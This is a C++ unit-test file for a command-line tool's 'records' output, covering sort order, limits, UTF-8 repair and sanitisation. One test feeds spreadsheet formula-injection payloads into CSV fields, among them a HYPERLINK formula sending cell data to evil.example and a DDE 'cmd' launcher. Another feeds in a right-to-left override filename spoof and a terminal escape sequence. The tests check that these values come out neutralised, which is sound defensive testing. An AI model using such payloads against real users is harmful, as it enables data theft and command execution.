// What tarvo-cli records prints: newest first with a limit and a reason column; CSV that a
// spreadsheet opens without running a formula; JSON, CSV and the table valid UTF-8 whatever
// bytes a journal holds; a table that no label can reorder or drive the terminal with.

#include <gtest/gtest.h>

#include <sqlite3.h>

#include <sstream>

#include "cli/RunProgram.h"
#include "record/Export.h"
#include "record/Identity.h"
#include "record/RecordStore.h"
#include "record/TestSupport.h"

using namespace tarvo;
using namespace tarvo::record;
using tarvo::test::TempDir;

namespace {

std::vector<std::string> Lines(const std::string& text)
{
    std::vector<std::string> out;
    std::istringstream in(text);
    std::string line;
    while (std::getline(in, line))
        out.push_back(line);
    return out;
}

class RecordsOutput : public ::testing::Test {
protected:
    void Write(const std::vector<RunRecord>& records)
    {
        RecordStore store;
        std::string error;
        ASSERT_TRUE(store.Open(db, error)) << error;
        for (const RunRecord& r : records)
            ASSERT_TRUE(store.Upsert(r, "", error)) << error;
    }

    test::ProgramResult Records(std::vector<std::string> args)
    {
        args.insert(args.begin(), "records");
        args.push_back("--record");
        args.push_back(db);
        return test::RunProgram(TARVO_CLI_PATH, args);
    }

    TempDir dir;
    std::string db = dir.Path() + "/records.sqlite";
};

TEST_F(RecordsOutput, NewestFirstWithALimitAndTheReasonInItsOwnColumn)
{
    std::vector<RunRecord> records;
    for (int n = 0; n < 60; ++n) {
        RunRecord r = test::AwkwardRecord(n);
        char started[40];
        std::snprintf(started, sizeof started, "2026-12-07T10:%02d:00.000Z", n);
        r.started_at = started;
        r.unit = "SN-" + std::to_string(n);
        r.text = "Serial Port Open Failed...";
        r.reason = n == 59 ? Text("device busy: held by minicom (pid 4242)") : Text();
        records.push_back(r);
    }
    Write(records);

    const auto table = Records({});
    ASSERT_EQ(table.exitCode, 0) << table.err;
    const auto lines = Lines(table.out);
    ASSERT_EQ(lines.size(), 51u) << "a header and the newest 50";
    EXPECT_NE(lines[0].find("REASON"), std::string::npos) << lines[0];
    EXPECT_NE(lines[1].find("SN-59"), std::string::npos) << lines[1];
    EXPECT_NE(lines[50].find("SN-10"), std::string::npos) << lines[50];
    // The reason starts where the header's REASON does.
    const auto column = lines[0].find("REASON");
    EXPECT_EQ(lines[1].find("device busy"), column) << lines[0] << "\n" << lines[1];
    EXPECT_NE(table.err.find("--limit"), std::string::npos) << "the table tells that more are not shown";

    const auto oldest = Records({"--oldest-first", "--limit", "3"});
    ASSERT_EQ(oldest.exitCode, 0) << oldest.err;
    const auto few = Lines(oldest.out);
    ASSERT_EQ(few.size(), 4u);
    EXPECT_NE(few[1].find("SN-0 "), std::string::npos) << few[1];
    EXPECT_NE(few[3].find("SN-2 "), std::string::npos) << few[3];

    const auto csv = Records({"--format", "csv"});
    ASSERT_EQ(csv.exitCode, 0) << csv.err;
    const auto rows = test::ParseCsv(csv.out);
    ASSERT_EQ(rows.size(), 61u) << "CSV gives every record";
    EXPECT_EQ(rows[1][30], "SN-59");
    EXPECT_EQ(rows[60][30], "SN-0");
    const auto json = Records({"--format", "json", "--limit", "2"});
    EXPECT_EQ(Lines(json.out).size(), 2u);
}

TEST_F(RecordsOutput, CsvFieldsThatASpreadsheetWouldRunAreNeutralised)
{
    RunRecord r = test::AwkwardRecord(1);
    r.unit = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    r.operator_ = "+1+cmd|' /C calc'!A0";
    r.station = "-2+3";
    r.text = "@SUM(1+1)";
    r.reason = "\t=1";
    r.main_software = "\r=2";
    r.image = "a=b";  // '=' elsewhere than first is harmless
    r.status = -1;    // a number stays a number
    Write({r});
    const auto csv = Records({"--format", "csv"});
    ASSERT_EQ(csv.exitCode, 0) << csv.err;
    const auto rows = test::ParseCsv(csv.out);
    ASSERT_EQ(rows.size(), 2u);
    std::map<std::string, std::string> field;
    for (int f = 0; f < kFieldCount; ++f)
        field[Fields()[f].name] = rows[1][f];
    EXPECT_EQ(field["unit"], "'" + *r.unit);
    EXPECT_EQ(field["operator"], "'" + *r.operator_);
    EXPECT_EQ(field["station"], "'-2+3");
    EXPECT_EQ(field["text"], "'@SUM(1+1)");
    EXPECT_EQ(field["reason"], "'\t=1");
    EXPECT_EQ(field["main_software"], "'\r=2");
    EXPECT_EQ(field["image"], "a=b");
    EXPECT_EQ(field["status"], "-1");
    // The window's export writes the same rows.
    EXPECT_EQ(csv.out, CsvHeader() + CsvRow(r));
}

// A journal written before text was kept valid holds raw bytes; every output is valid UTF-8.
TEST_F(RecordsOutput, RawBytesOfAnOlderJournalComeOutAsValidText)
{
    RunRecord r = test::AwkwardRecord(2);
    r.unit = "SN\xff-1";
    Write({r});
    {
        RecordStore store;
        std::string error;
        ASSERT_TRUE(store.Open(db, error, true)) << error;
        std::string unit;
        store.Query({}, [&](const RunRecord& back) { unit = back.unit.value_or(""); }, error);
        EXPECT_EQ(unit, "SN\xef\xbf\xbd-1") << "the journal keeps text valid";
    }
    sqlite3* raw = nullptr;
    ASSERT_EQ(sqlite3_open(db.c_str(), &raw), SQLITE_OK);
    ASSERT_EQ(sqlite3_exec(raw,
                           "UPDATE runs SET unit = CAST(X'534EFF2D31' AS TEXT), "
                           "operator = CAST(X'4AC3' AS TEXT), text = CAST(X'E282' AS TEXT)",
                           nullptr, nullptr, nullptr),
              SQLITE_OK);
    sqlite3_close(raw);

    const auto json = Records({"--format", "json"});
    ASSERT_EQ(json.exitCode, 0) << json.err;
    EXPECT_TRUE(IsValidText(json.out)) << json.out;
    const auto object = test::ParseJsonObject(Lines(json.out).at(0));
    EXPECT_EQ(object.at("unit").text, "SN\xef\xbf\xbd-1");
    EXPECT_EQ(object.at("operator").text, "J\xef\xbf\xbd");
    EXPECT_EQ(object.at("text").text, "\xef\xbf\xbd");
    const auto csv = Records({"--format", "csv"});
    EXPECT_TRUE(IsValidText(csv.out));
    const auto table = Records({});
    EXPECT_TRUE(IsValidText(table.out));
    EXPECT_NE(table.out.find("SN?-1"), std::string::npos) << table.out;
}

TEST_F(RecordsOutput, TableNeutralisesDirectionOverridesAndControls)
{
    RunRecord r = test::AwkwardRecord(3);
    r.unit = "SN\u202Egnp.exe";      // right-to-left override
    r.text = "ok\u2067 \x1b[2J\u0085";  // isolate, an escape sequence, a C1 control
    r.reason = "한국 ✓";             // ordinary text stays
    Write({r});
    const auto table = Records({});
    ASSERT_EQ(table.exitCode, 0) << table.err;
    const std::string row = Lines(table.out).at(1);
    for (const char* forbidden : {"\u202E", "\u2067", "\x1b", "\u0085"})
        EXPECT_EQ(row.find(forbidden), std::string::npos) << row;
    EXPECT_NE(row.find("SN?gnp.exe"), std::string::npos) << row;
    EXPECT_NE(row.find("ok? ?[2J?"), std::string::npos) << row;
    EXPECT_NE(row.find("한국 ✓"), std::string::npos) << row;
}

TEST(ValidText, EveryIllFormedSequenceBecomesOneReplacement)
{
    const std::string fffd = "\xef\xbf\xbd";
    EXPECT_EQ(ValidText("plain ünï 한 ✓ 😀"), "plain ünï 한 ✓ 😀");
    EXPECT_EQ(ValidText(std::string("a\0b", 3)), "a" + fffd + "b");
    EXPECT_EQ(ValidText("\xc0\xaf"), fffd + fffd);           // overlong '/'
    EXPECT_EQ(ValidText("\xed\xa0\x80"), fffd + fffd + fffd);  // a surrogate
    EXPECT_EQ(ValidText("\xf4\x90\x80\x80"), fffd + fffd + fffd + fffd);  // above U+10FFFF
    EXPECT_EQ(ValidText("\xe2\x82x"), fffd + "x");            // truncated: one replacement
    EXPECT_EQ(ValidText("\xf0\x9f\x98"), fffd);
    EXPECT_EQ(ValidText("\x80\xbf"), fffd + fffd);
    EXPECT_EQ(ValidText("\xff"), fffd);
    EXPECT_TRUE(IsValidText(ValidText("\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc")));
}

}  // namespace
